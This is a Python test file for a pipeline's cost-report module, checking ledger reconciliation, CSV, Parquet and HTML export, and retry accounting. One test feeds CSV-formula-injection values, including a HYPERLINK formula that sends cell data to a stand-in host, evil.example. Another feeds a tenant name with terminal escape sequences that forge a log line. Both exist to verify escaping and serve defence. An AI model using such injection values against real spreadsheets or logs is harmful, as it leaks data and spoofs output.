"""Cost reports: numbers reconcile with the ledgers, tables for BI tools, an HTML page that renders."""

from __future__ import annotations

import csv
import json
import math
import shutil
import struct
import subprocess
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.dataset as pads
import pyarrow.parquet as pq
import pytest

from overnight.jobs.accounting import ledger
from overnight.jobs.accounting.ledger import Cost
from overnight.jobs.cli import main
from overnight.jobs.dataset import storage
from overnight.jobs.dataset.commits import CommittedDataset
from overnight.jobs.ops.report import build_report, load, parse_since, write
from overnight.jobs.spec import DEFAULT_PRICES
from overnight.schemas import DOCUMENT_RESULTS, TRANSCRIPTS
from tests.conftest import upload_folder

DAY1 = datetime(2026, 11, 30, 23, 10, tzinfo=UTC)
DAY2 = datetime(2026, 12, 1, 2, 40, tzinfo=UTC)
DAY3 = datetime(2026, 12, 2, 3, 5, tzinfo=UTC)


def _speech_rows(run_id: str, n: int, seed: int, when: datetime, accel: str) -> list[dict]:
    """Transcript rows as the Whisper actor writes them (timings that do not add up neatly)."""
    rows = []
    for i in range(n):
        tenant = ("acme", "globex", None)[(i + seed) % 3]
        failed = i % 7 == 3
        duration = 17.3 + ((i * 37 + seed * 11) % 113) * 1.37
        rows.append(
            {
                "item_id": f"{run_id}-item-{i:03d}",
                "source_uri": f"s3://calls/{run_id}/{i}.wav",
                "tenant": tenant,
                "submission_id": f"sub-{(i + seed) % 2}" if tenant else None,
                "status": "error" if failed else "ok",
                "error_code": ("corrupt_audio" if i % 2 else "too_long") if failed else None,
                "text": None if failed else "hello",
                "duration_s": None if failed and i % 2 else duration,
                "model": "large-v3-turbo" if accel != "cpu" else "bundled:tiny.en",
                "run_id": run_id,
                "processed_at": when,
                "fetch_s": 0.013 * (i + 1) / 3,
                "decode_s": 0.071 + i * 0.0031,
                "decode_resource": "cpu",
                "decode_units": 0.5,
                "asr_s": 0.0 if failed else duration / (97.0 + seed),
                "asr_resource": accel,
                "asr_units": 1.0,
            }
        )
    return rows


def _document_rows(run_id: str, n: int, when: datetime) -> list[dict]:
    return [
        {
            "item_id": f"{run_id}-doc-{i:03d}",
            "source_uri": f"s3://docs/{i}.pdf",
            "tenant": ("acme", "initech")[i % 2],
            "submission_id": "sub-docs",
            "status": "error" if i == 2 else "ok",
            "error_code": "encrypted" if i == 2 else None,
            "task": "summarize",
            "input_tokens": 0 if i == 2 else 1000 + 131 * i,
            "output_tokens": 0 if i == 2 else 77 + 13 * i,
            "model": "meta-llama/Llama-3.1-8B-Instruct",
            "run_id": run_id,
            "processed_at": when,
            "fetch_s": 0.02 + i / 1000,
            "extract_s": 0.31 + i / 97,
            "extract_resource": "cpu",
            "llm_s": 0.0 if i == 2 else 1.7 + i / 7,
            "llm_resource": "h100",
            "llm_units": 1.0,
        }
        for i in range(n)
    ]


# The costs of the jobs' stages as their plans declare them (jobs.transcribe, jobs.process):
# which columns are which ledger stage; ``model`` as the model stage's record sets it.
AUDIO_COSTS = (Cost("decode", "decode", parts=("fetch",)), Cost("transcribe", "asr", model=True))
TEXT_COSTS = (
    Cost("extract", "extract", parts=("fetch",), bought=None),
    Cost("generate", "llm", bought="tokens", model=True),
)


def _write_run(
    out: Path, run_id: str, kind: str, rows: list[dict], when: datetime, pipeline_s: float
) -> dict:
    """Commit results, ledger and summary with the project's own ledger code."""
    loc = storage.resolve(str(out))
    schema, folder, stages = (
        (TRANSCRIPTS, "transcripts", AUDIO_COSTS)
        if kind == "transcribe"
        else (DOCUMENT_RESULTS, "results", TEXT_COSTS)
    )
    CommittedDataset(loc.join(folder)).write_table(pa.Table.from_pylist(rows, schema=schema))
    costs = ledger.build_ledger(rows, DEFAULT_PRICES, stages)
    costs = costs.set_column(
        costs.schema.get_field_index("recorded_at"),
        "recorded_at",
        pa.array([when] * costs.num_rows, pa.timestamp("us", tz="UTC")),
    )
    CommittedDataset(loc.join("costs")).write_table(costs)
    resource = rows[0].get("asr_resource") or rows[0].get("llm_resource")
    summary = ledger.summarize_run(
        run_id=run_id,
        kind=kind,
        rows=rows,
        ledger=costs,
        listed=len(rows),
        already_done=0,
        wall_s=pipeline_s + 5,
        pipeline_wall_s=pipeline_s,
        model_actors=2,
        model_resource=resource,
        model_units=1.0,
        prices=DEFAULT_PRICES,
    )
    summary["finished_at"] = when.isoformat()
    ledger.write_summary(loc, summary)
    return summary


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> tuple[Path, Path]:
    """Two outputs: nightly GPU runs on two days plus a document run; a CPU run elsewhere."""
    root = tmp_path_factory.mktemp("report")
    a, b = root / "nightly", root / "adhoc"
    _write_run(a, "night-1", "transcribe", _speech_rows("night-1", 23, 1, DAY1, "h100"), DAY1, 14.0)
    _write_run(a, "night-2", "transcribe", _speech_rows("night-2", 31, 2, DAY2, "h100"), DAY2, 17.5)
    _write_run(a, "docs-1", "process", _document_rows("docs-1", 6, DAY2), DAY2, 9.0)
    _write_run(b, "cpu-1", "transcribe", _speech_rows("cpu-1", 11, 3, DAY3, "cpu"), DAY3, 40.0)
    return a, b


def _independent(*outs: Path) -> tuple[list[dict], list[dict]]:
    """Ledger and result rows read straight from the Parquet files, not through the report."""
    ledger_rows, result_rows = [], []
    for out in outs:
        ledger_rows += pads.dataset(str(out / "costs"), format="parquet").to_table().to_pylist()
        for name in ("transcripts", "results"):
            if (out / name).is_dir():
                result_rows += (
                    pads.dataset(str(out / name), format="parquet").to_table().to_pylist()
                )
    return ledger_rows, result_rows


def _expected(ledger_rows: list[dict], result_rows: list[dict], key) -> dict[str, dict]:
    models = {(r["run_id"], r["item_id"]): r["model"] for r in result_rows}
    groups: dict[str, dict] = {}
    for r in ledger_rows:
        g = groups.setdefault(
            key(r, models),
            {"cost": [], "audio_cost": [], "audio": [], "docs": set(), "tokens": 0, "busy": []},
        )
        g["cost"].append(r["cost_usd"])
        if r["stage"] in ("fetch", "decode", "transcribe") and r["item_id"].count("-doc-") == 0:
            g["audio_cost"].append(r["cost_usd"])
        if r["stage"] == "transcribe" and r["audio_s"] is not None:
            g["audio"].append(r["audio_s"])
        if r["stage"] in ("extract", "generate"):
            g["docs"].add(r["item_id"])
        if r["stage"] == "generate":
            g["tokens"] += r["input_tokens"] + r["output_tokens"]
        if r["stage"] in ("transcribe", "generate"):
            g["busy"].append(r["seconds"])
    return groups


def _label(value):
    return "(none)" if value is None else value


KEYS = {
    "tenant": lambda r, m: _label(r["tenant"]),
    "day": lambda r, m: r["recorded_at"].strftime("%Y-%m-%d"),
    "run": lambda r, m: r["run_id"],
    "submission": lambda r, m: _label(r["submission_id"]),
    "model": lambda r, m: m[(r["run_id"], r["item_id"])],
}


@pytest.mark.parametrize("by", sorted(KEYS))
def test_report_numbers_reconcile_exactly_with_ledgers_across_runs_and_tenants(outputs, by):
    ledger_rows, result_rows = _independent(*outputs)
    report = build_report(load([str(o) for o in outputs]), by=by)
    got = {r[by]: r for r in report.main.to_pylist()}
    expected = _expected(ledger_rows, result_rows, KEYS[by])
    assert set(got) == set(expected)
    for key, e in expected.items():
        row = got[key]
        assert row["cost_usd"] == math.fsum(e["cost"]), key
        assert row["audio_cost_usd"] == math.fsum(e["audio_cost"]), key
        assert row["audio_seconds"] == math.fsum(e["audio"]), key
        assert row["documents"] == len(e["docs"])
        assert row["input_tokens"] + row["output_tokens"] == e["tokens"]
        assert row["accelerator_busy_hours"] == math.fsum(e["busy"]) / 3600
        minutes = math.fsum(e["audio"]) / 60
        assert row["cost_per_audio_minute_usd"] == (
            math.fsum(e["audio_cost"]) / minutes if minutes else None
        )
        doc_cost = math.fsum(e["cost"]) - math.fsum(e["audio_cost"])
        if e["docs"]:
            assert row["cost_per_document_usd"] == pytest.approx(
                doc_cost / len(e["docs"]), rel=1e-12
            )
            assert row["cost_per_million_tokens_usd"] == pytest.approx(
                doc_cost / e["tokens"] * 1e6, rel=1e-12
            )
    # The groups partition the ledger: their sum is the total, and the total is exact.
    totals = report.totals
    assert totals["cost_usd"] == math.fsum(r["cost_usd"] for r in ledger_rows)
    assert math.fsum(r["cost_usd"] for r in got.values()) == pytest.approx(
        totals["cost_usd"], rel=1e-12
    )
    assert totals["audio_seconds"] == math.fsum(
        r["audio_s"] for r in ledger_rows if r["stage"] == "transcribe" and r["audio_s"] is not None
    )
    assert totals["items"] == len(result_rows) == 23 + 31 + 6 + 11
    assert totals["failed"] == sum(r["status"] == "error" for r in result_rows)


def test_a_ledger_from_before_schema_6_reports_the_same_figures(outputs, tmp_path):
    """Ledgers written before the stage's role was recorded (no ``model_stage``, ``work``)
    are read by the stage names of that time, with the same totals."""
    import shutil

    old = [tmp_path / o.name for o in outputs]
    for src, dst in zip(outputs, old, strict=True):
        shutil.copytree(src, dst)
        for f in (dst / "costs").rglob("*.parquet"):
            table = pq.read_table(f)
            pq.write_table(table.drop_columns(["model_stage", "work"]), f)
    for by in ("day", "tenant"):
        now = build_report(load([str(o) for o in outputs]), by=by).main.to_pylist()
        then = build_report(load([str(o) for o in old]), by=by).main.to_pylist()
        assert then == now


def test_failures_are_counted_by_error_code_in_each_group(outputs):
    _, result_rows = _independent(*outputs)
    report = build_report(load([str(o) for o in outputs]), by="tenant")
    got = {
        (f["tenant"], f["error_code"]): f["items"] for f in report.tables["failures"].to_pylist()
    }
    expected: dict[tuple, int] = {}
    for r in result_rows:
        if r["status"] == "error":
            key = (_label(r["tenant"]), r["error_code"])
            expected[key] = expected.get(key, 0) + 1
    assert got == expected
    assert {code for _, code in got} == {"corrupt_audio", "too_long", "encrypted"}


def test_reserved_time_comes_from_summaries_and_splits_by_busy_share(outputs):
    nightly, _ = outputs
    summaries = {s.name: json.loads(s.read_text()) for s in (nightly / "runs").iterdir()}
    report = build_report(load([str(nightly)]), by="run")
    by_run = {r["run"]: r for r in report.main.to_pylist()}
    for run, row in by_run.items():
        s = summaries[f"{run}.json"]
        assert row["accelerator_reserved_hours"] == pytest.approx(
            s["accelerator_reserved_seconds"] / 3600, rel=1e-12
        )
        assert row["utilization"] == pytest.approx(s["utilization"], abs=1e-4)
        assert row["reserved_cost_usd"] == pytest.approx(s["reserved_cost_usd"], rel=1e-9)
    night1 = by_run["night-1"]
    assert night1["rtfx"] == pytest.approx(summaries["night-1.json"]["rtfx"], rel=1e-3)
    # Tenants of one run share its reserved hours in proportion to their busy hours.
    by_tenant = build_report(load([str(nightly)]), by="tenant").main.to_pylist()
    reserved = math.fsum(r["accelerator_reserved_hours"] for r in by_tenant)
    assert reserved == pytest.approx(
        sum(s["accelerator_reserved_seconds"] for s in summaries.values()) / 3600
    )


def test_since_keeps_only_what_was_recorded_from_that_date(outputs):
    report = build_report(
        load([str(o) for o in outputs]), by="day", since=parse_since("2026-12-01")
    )
    assert [r["day"] for r in report.main.to_pylist()] == ["2026-12-01", "2026-12-02"]
    assert report.totals["items"] == 31 + 6 + 11
    assert parse_since("7d", now=DAY3) == datetime(2026, 11, 25, 3, 5, tzinfo=UTC)


def test_csv_and_parquet_hold_the_same_tables_for_bi_tools(outputs, tmp_path):
    report = build_report(load([str(o) for o in outputs]), by="tenant")
    write(report, "parquet", str(tmp_path / "pq"))
    write(report, "csv", str(tmp_path / "csv"))
    assert sorted(p.name for p in (tmp_path / "pq").iterdir()) == sorted(
        f"{name}.parquet" for name in report.tables
    )
    for name, table in report.tables.items():
        assert pq.read_table(tmp_path / "pq" / f"{name}.parquet").equals(table)
        with open(tmp_path / "csv" / f"{name}.csv") as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == table.num_rows
        for row, expected in zip(rows, table.to_pylist(), strict=True):
            for col, value in expected.items():
                if isinstance(value, float):
                    assert (
                        float(row[col]) == value
                    )  # repr round-trips: the CSV reconciles exactly too
                elif value is None:
                    assert row[col] == ""


def test_report_reads_outputs_in_object_storage(outputs, s3, tmp_path):
    nightly, _ = outputs
    # A prefix of its own: the moto server lives for the session, and other tests' outputs
    # under a shared prefix would be read into this report.
    for sub in ("costs", "transcripts", "results", "runs"):
        upload_folder(s3, "acme-out", nightly / sub, f"report-test/nightly/{sub}")
    local = build_report(load([str(nightly)]), by="tenant")
    remote = build_report(load(["s3://acme-out/report-test/nightly"]), by="tenant")
    assert remote.main.equals(local.main)
    assert remote.totals == local.totals
    write(remote, "csv", "s3://acme-out/reports/tenant")
    assert {
        o["Key"] for o in s3.list_objects_v2(Bucket="acme-out", Prefix="reports/")["Contents"]
    } >= {"reports/tenant/by_tenant.csv", "reports/tenant/totals.csv"}


def test_command_prints_the_grouped_table_with_totals(outputs, capsys):
    assert main(["report", *map(str, outputs), "--by", "tenant"]) == 0
    text = capsys.readouterr().out
    for expected in (
        "acme",
        "globex",
        "initech",
        "(none)",
        "TOTAL",
        "$/audio min",
        "corrupt_audio",
    ):
        assert expected in text
    assert main(["report", str(outputs[0]), "--format", "html"]) == 2  # html needs --out


def _png_pixels(path: Path) -> tuple[int, int, bytes]:
    """Width, height and raw scanlines of a PNG (no imaging library needed)."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat, width, height = 8, b"", 0, 0
    while pos < len(data):
        length, kind = struct.unpack(">I4s", data[pos : pos + 8])
        chunk = data[pos + 8 : pos + 8 + length]
        if kind == b"IHDR":
            width, height = struct.unpack(">II", chunk[:8])
        elif kind == b"IDAT":
            idat += chunk
        pos += 12 + length
    return width, height, zlib.decompress(idat)


def test_html_report_is_self_contained_and_renders_its_charts_in_headless_chromium(
    outputs, tmp_path
):
    report = build_report(load([str(o) for o in outputs]), by="tenant")
    page = tmp_path / "report.html"
    write(report, "html", str(page))
    text = page.read_text()
    # Opens offline: no scripts, no links, no external fetches of any kind.
    assert (
        "http" not in text and "<script" not in text and "<link" not in text and "url(" not in text
    )
    assert text.count("<svg") == 4
    exe = (
        shutil.which("chromium")
        or shutil.which("chromium-browser")
        or shutil.which("google-chrome")
    )
    if exe is None:
        pytest.skip("Chromium is not installed (apt-get install chromium)")
    common = [
        exe,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        "--disable-dev-shm-usage",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--window-size=1200,2000",
    ]
    dom = subprocess.run(
        [*common, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120
    ).stdout
    charts = dom.split('<figure class="chart"')[1:]
    assert len(charts) == 4
    ids = [c.split('id="')[1].split('"')[0] for c in charts]
    assert ids == [
        "chart-cost-per-minute",
        "chart-cost-by-tenant",
        "chart-utilization",
        "chart-throughput",
    ]
    assert all("<svg" in c and ("<rect" in c or "<circle" in c) for c in charts)
    assert dom.count('class="point"') >= 3  # one per day on the cost-per-minute line
    shot = tmp_path / "report.png"
    subprocess.run(
        [*common, f"--screenshot={shot}", page.as_uri()], capture_output=True, timeout=120
    )
    width, height, raw = _png_pixels(shot)
    assert (width, height) == (1200, 2000)
    # Something was drawn: many distinct byte values, not a blank white page.
    assert len(set(raw[: len(raw) // 2])) > 50


def test_report_of_nothing_says_where_it_looked(tmp_path):
    assert main(["report", str(tmp_path / "missing")]) == 4


def test_csv_report_escapes_tenant_text_a_spreadsheet_would_run_as_a_formula(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    rows = _speech_rows("night-x", 8, 1, DAY1, "h100")
    for i, row in enumerate(rows):
        row["tenant"] = hostile[i % len(hostile)]
    _write_run(tmp_path / "out", "night-x", "transcribe", rows, DAY1, 3.0)
    out = ["--format", "csv", "--out", str(tmp_path / "csv")]
    assert main(["report", str(tmp_path / "out"), "--by", "tenant", *out]) == 0
    with open(tmp_path / "csv" / "by_tenant.csv") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    tenants = [c for c in cells if any(h in c for h in hostile)]
    assert sorted(tenants) == sorted("'" + h for h in hostile)
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert all(float(c) <= 0 for c in cells if c.startswith("-"))  # only numbers may


def _analytics(duration: float, talk: tuple[float, float], overtalk: float, interrupts: int):
    agent, customer = talk
    return {
        "duration_s": duration,
        "talk_s": agent + customer - overtalk,
        "non_talk_s": duration - (agent + customer - overtalk),
        "longest_silence_s": 2.0 + overtalk,
        "overtalk_s": overtalk,
        "interruptions": [{"by": "customer", "of": "agent", "count": interrupts}],
        "speakers": [
            {
                "speaker": name,
                "talk_s": t,
                "talk_ratio": t / duration,
                "turns": 3,
                "words": int(t * 2.5),
                "words_per_minute": 150.0,
                "longest_monologue_s": t / 2,
                "interruptions_made": interrupts if name == "customer" else 0,
                "interrupted": interrupts if name == "agent" else 0,
            }
            for name, t in (("agent", agent), ("customer", customer))
        ],
    }


def test_call_analytics_are_summed_per_day_and_tenant_beside_the_audio_cost(tmp_path, capsys):
    out = tmp_path / "calls"
    calls = {  # item -> (day, tenant, analytics)
        0: (DAY1, "acme", _analytics(60.0, (30.0, 20.0), 4.0, 2)),
        1: (DAY1, "acme", _analytics(120.0, (50.0, 50.0), 1.0, 1)),
        2: (DAY2, "globex", _analytics(30.0, (10.0, 12.0), 0.0, 0)),
    }
    for day in (DAY1, DAY2):
        rows = [
            dict(r, analytics=a, tenant=t, duration_s=a["duration_s"])
            for r, (i, (d, t, a)) in zip(
                _speech_rows(f"run-{day:%d}", 3, 0, day, "h100"), calls.items(), strict=False
            )
            if d == day
        ]
        # and a call without analytics (mono): counted in cost, not in the analytics
        rows.append(dict(_speech_rows(f"run-{day:%d}", 1, 0, day, "h100")[0], item_id="mono"))
        _write_run(out, f"run-{day:%d}", "transcribe", rows, day, 100.0)
    report = build_report(load([str(out)]), by="tenant")
    table = {
        (r["tenant"], r["speaker"]): r
        for r in report.tables["call_analytics_by_tenant"].to_pylist()
    }
    acme = table["acme", "(all)"]
    assert acme["calls"] == 2
    assert acme["call_minutes"] == pytest.approx(3.0)
    # ratios of sums: (46 + 99) talk seconds over 180 call seconds
    assert acme["talk_ratio"] == pytest.approx((46 + 99) / 180)
    assert acme["overtalk_ratio"] == pytest.approx(5 / 180)
    assert acme["interruptions"] == 3 and acme["interruptions_per_call"] == pytest.approx(1.5)
    assert table["acme", "agent"]["talk_minutes"] == pytest.approx(80 / 60)
    assert table["acme", "customer"]["interruptions"] == 3
    assert table["acme", "agent"]["interrupted"] == 3
    assert table["globex", "(all)"]["calls"] == 1
    cost = {r["tenant"]: r["audio_cost_usd"] for r in report.tables["by_tenant"].to_pylist()}
    assert acme["audio_cost_usd"] == cost["acme"]
    assert acme["cost_per_call_minute_usd"] == pytest.approx(cost["acme"] / 3.0)
    by_day = {
        (r["day"], r["speaker"]): r for r in report.tables["call_analytics_by_day"].to_pylist()
    }
    assert by_day[f"{DAY1:%Y-%m-%d}", "(all)"]["calls"] == 2
    assert main(["report", str(out), "--by", "tenant"]) == 0
    printed = capsys.readouterr().out
    assert "call analytics by tenant" in printed and "customer" in printed


def test_overtalk_is_over_the_calls_that_measured_it_never_the_diarized_mono_ones(tmp_path):
    # A diarized mono call has one speaker per instant: its overtalk_s is null. Counted as
    # none, a group of one stereo call and four mono ones showed 6% overtalk, not 41%.
    out = tmp_path / "calls"
    mono = dict(_analytics(60.0, (30.0, 20.0), 0.0, 0), overtalk_s=None)
    calls = [  # tenant, analytics
        ("acme", _analytics(60.0, (30.0, 20.0), 6.0, 1)),
        ("acme", mono),
        ("acme", mono),
        ("globex", mono),
    ]
    ok = [r for r in _speech_rows("run-x", 6, 0, DAY1, "h100") if r["status"] == "ok"]
    rows = [
        dict(r, analytics=a, tenant=t, duration_s=a["duration_s"])
        for r, (t, a) in zip(ok, calls, strict=False)
    ]
    _write_run(out, "run-x", "transcribe", rows, DAY1, 100.0)
    report = build_report(load([str(out)]), by="tenant")
    table = {
        (r["tenant"], r["speaker"]): r
        for r in report.tables["call_analytics_by_tenant"].to_pylist()
    }
    acme, globex = table["acme", "(all)"], table["globex", "(all)"]
    assert acme["calls"] == 3 and acme["call_minutes"] == pytest.approx(3.0)
    assert acme["overtalk_ratio"] == pytest.approx(6.0 / 60.0)
    assert acme["overtalk_minutes"] == pytest.approx(0.1)
    assert globex["overtalk_ratio"] is None and globex["overtalk_minutes"] is None
    assert globex["talk_ratio"] is not None


def test_a_tenant_report_is_that_tenants_row_of_the_report_by_tenant(outputs, capsys):
    nightly, _ = outputs
    whole = {
        r["tenant"]: r for r in build_report(load([str(nightly)]), by="tenant").main.to_pylist()
    }
    only = build_report(load([str(nightly)]), by="tenant", tenant="acme")
    assert [r["tenant"] for r in only.main.to_pylist()] == ["acme"]
    (row,) = only.main.to_pylist()
    assert row == whole["acme"]
    assert only.totals["cost_usd"] == whole["acme"]["cost_usd"]
    assert main(["report", str(nightly), "--tenant", "globex", "--by", "day"]) == 0
    printed = capsys.readouterr().out
    assert "tenant globex" in printed


def test_a_tenant_name_with_control_characters_prints_escaped_in_the_table(tmp_path):
    from overnight.jobs.ops.report import render_table

    rows = _speech_rows("night-x", 3, 0, DAY1, "h100")
    for row in rows:
        row["tenant"] = "acme\n[overnight] forged\x1b[2K"
    _write_run(tmp_path / "out", "night-x", "transcribe", rows, DAY1, 5.0)
    text = render_table(build_report(load([str(tmp_path / "out")]), by="tenant"))
    assert not [line for line in text.splitlines() if line.startswith("[overnight]")], text
    assert "acme\\n[overnight] forged\\x1b[2K" in text and "\x1b" not in text


@pytest.mark.usefixtures("ray_local")
def test_report_over_a_backfilled_nights_date_counts_its_items_and_cost(tmp_path, capsys):
    """A backfill runs today for an older night (``[job] run_date``): its rows are recorded
    today and still belong to that night, in the report as in the partitions."""
    from overnight.jobs.ops.demo import noise, write_wav
    from tests.jobs.dataset.test_layout import transcribe

    calls = tmp_path / "calls"
    calls.mkdir()
    for n in range(2):
        write_wav(calls / f"call-{n}.wav", noise(1.0, seed=n))
    summary = transcribe(str(calls), str(tmp_path / "out"), "2026-11-05")
    argv = ["report", str(tmp_path / "out"), "--since", "2026-11-05", "--until", "2026-11-05"]
    assert main([*argv, "--by", "day", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)  # one JSON object, nothing else
    totals = report["totals"]
    costs = pads.dataset(str(tmp_path / "out" / "costs"), partitioning="hive").to_table()
    assert set(costs["run_date"].to_pylist()) == {"2026-11-05"}  # filed under the night
    assert totals["items"] == summary["items"] == 2
    assert totals["cost_usd"] == math.fsum(costs["cost_usd"].to_pylist()) > 0
    assert totals["accelerator_reserved_hours"] > 0  # the run's summary is in scope too
    assert [r["day"] for r in report["rows"]] == ["2026-11-05"] and report["by"] == "day"
    # The day the backfill ran holds none of it.
    today = datetime.now(UTC).date().isoformat()
    assert main(["report", str(tmp_path / "out"), "--since", today, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["totals"]["items"] == 0


def _calls(run_id: str, when: datetime, calls: list[tuple[str, str, str | None]]) -> list[dict]:
    """Transcript rows of ``calls`` (item id, URI, error code or None), as the actor writes them."""
    rows = _speech_rows(run_id, len(calls), 0, when, "cpu")
    for row, (item, uri, code) in zip(rows, calls, strict=True):
        row.update(item_id=item, source_uri=uri, tenant="acme", submission_id=None)
        if code is not None:
            row.update(status="error", error_code=code, text=None, asr_s=0.0)
        else:
            row.update(status="ok", error_code=None, text="hello")
    return rows


def _retry(out: Path, run_id: str, when: datetime, calls: list[tuple[str, str, str | None]]):
    """A rerun with ``--retry-errors``: the error rows of the calls it redoes go first, as the
    runner has them forgotten (``CommittedDataset.forget``), then its own run is written."""
    transcripts = CommittedDataset(storage.resolve(str(out / "transcripts")))
    transcripts.forget(transcripts.error_rows({item for item, _, _ in calls}, None))
    return _write_run(out, run_id, "transcribe", _calls(run_id, when, calls), when, 3.0)


def test_a_retried_error_row_stays_a_failure_of_the_run_that_wrote_it_as_its_summary_says(
    tmp_path, capsys
):
    """The retry removes the error rows it redoes (one row per item); the run that wrote them
    keeps its ledger rows and summary. Joined by (run, item), that run showed the item with no
    outcome: 3 items, 0 failed, against its summary's 1 failed."""
    out = tmp_path / "out"
    a, b, c = (("id-" + n, f"s3://calls/{n}.wav") for n in "abc")
    first = _write_run(
        out,
        "night-1",
        "transcribe",
        _calls("night-1", DAY1, [(*a, None), (*b, "fetch_failed"), (*c, None)]),
        DAY1,
        4.0,
    )
    second = _retry(out, "night-2", DAY2, [(*b, None)])
    report = build_report(load([str(out)]), by="run")
    by_run = {r["run"]: r for r in report.main.to_pylist()}
    for summary in (first, second):
        row = by_run[summary["run_id"]]
        assert (row["items"], row["succeeded"], row["failed"]) == (
            summary["items"],
            summary["succeeded"],
            summary["failed"],
        ), summary["run_id"]
    assert (by_run["night-1"]["failed"], by_run["night-2"]["succeeded"]) == (1, 1)
    assert report.tables["failures"].to_pylist() == [
        {"run": "night-1", "error_code": "fetch_failed", "items": 1}
    ]
    # The tenant and the day of the first run keep the failure too.
    assert {r["tenant"]: r["failed"] for r in report.tables["by_tenant"].to_pylist()} == {"acme": 1}
    days = {r["day"]: r["failed"] for r in report.tables["by_day"].to_pylist()}
    assert days == {"2026-11-30": 1, "2026-12-01": 0}
    assert any("redid" in note for note in report.notes)
    assert main(["report", str(out), "--by", "run"]) == 0
    assert "fetch_failed" in capsys.readouterr().out


def test_a_run_whose_summary_has_fewer_failures_than_items_without_rows_counts_none_failed(
    tmp_path,
):
    """Which of the items without a row was the failure is not known (here the run's result
    file was removed by hand): none is counted failed, and a note says what the summary has."""
    out = tmp_path / "out"
    a, b, c = (("id-" + n, f"s3://calls/{n}.wav") for n in "abc")
    calls = [(*a, "corrupt_audio"), (*b, None), (*c, None)]
    _write_run(out, "night-1", "transcribe", _calls("night-1", DAY1, calls), DAY1, 4.0)
    for path in (out / "transcripts").glob("*.parquet"):
        path.unlink()
    _retry(out, "night-2", DAY2, [(*a, None)])
    report = build_report(load([str(out)]), by="run")
    night = {r["run"]: r for r in report.main.to_pylist()}["night-1"]
    assert (night["items"], night["failed"]) == (3, 0)
    assert report.tables["failures"].num_rows == 0
    [note] = [n for n in report.notes if n.startswith("run night-1:")]
    assert "1 more failed item" in note


def test_items_count_each_runs_work_and_sources_the_distinct_recordings_behind_them(
    tmp_path, capsys
):
    """An item's id hashes the URI with the object's size and ETag or mtime, so a recording
    deleted and put back (or uploaded again) is new work: its second transcription is an item
    of its own, paid for. The TOTAL says 3 items and 2 sources (recordings), not only "3".
    A recording missing when listed has its fetch_failed row under its "missing" id; once it
    is back, the retry's row is under its real id, and its run's manifest says both are one
    recording."""
    from overnight.jobs.dataset.manifest import item_id
    from overnight.schemas import MANIFEST

    out = tmp_path / "out"
    a, b, late = (f"s3://calls/{n}.wav" for n in ("a", "b", "late"))
    a1, b1 = item_id(a, 10, "etag-1"), item_id(b, 20, "etag-2")
    late_missing = item_id(late, None, None)
    _write_run(
        out,
        "night-1",
        "transcribe",
        _calls(
            "night-1", DAY1, [(a1, a, None), (b1, b, None), (late_missing, late, "fetch_failed")]
        ),
        DAY1,
        4.0,
    )
    listed = [{"item_id": i, "uri": u} for i, u in ((a1, a), (b1, b), (late_missing, late))]
    manifest = out / "_manifests" / "night-1.parquet"
    manifest.parent.mkdir()
    pq.write_table(pa.Table.from_pylist(listed, schema=MANIFEST), manifest)
    # b put back (a new ETag: a new item), late restored and retried (its real id).
    b2, late_found = item_id(b, 20, "etag-3"), item_id(late, 30, "etag-4")
    transcripts = CommittedDataset(storage.resolve(str(out / "transcripts")))
    transcripts.forget(transcripts.error_rows({late_missing}, ["fetch_failed"]))
    night2 = _calls("night-2", DAY2, [(b2, b, None), (late_found, late, None)])
    _write_run(out, "night-2", "transcribe", night2, DAY2, 3.0)

    report = build_report(load([str(out)]), by="run")
    by_run = {r["run"]: (r["items"], r["sources"]) for r in report.main.to_pylist()}
    assert by_run == {"night-1": (3, 3), "night-2": (2, 2)}
    assert (report.totals["items"], report.totals["sources"]) == (5, 3)
    assert report.tables["by_tenant"].to_pylist()[0]["sources"] == 3
    assert main(["report", str(out), "--by", "run"]) == 0
    printed = capsys.readouterr().out.splitlines()
    header = printed[2].split()
    total = next(line for line in printed if line.startswith("TOTAL")).split()
    assert header[1:3] == ["items", "sources"] and total[1:3] == ["5", "3"]
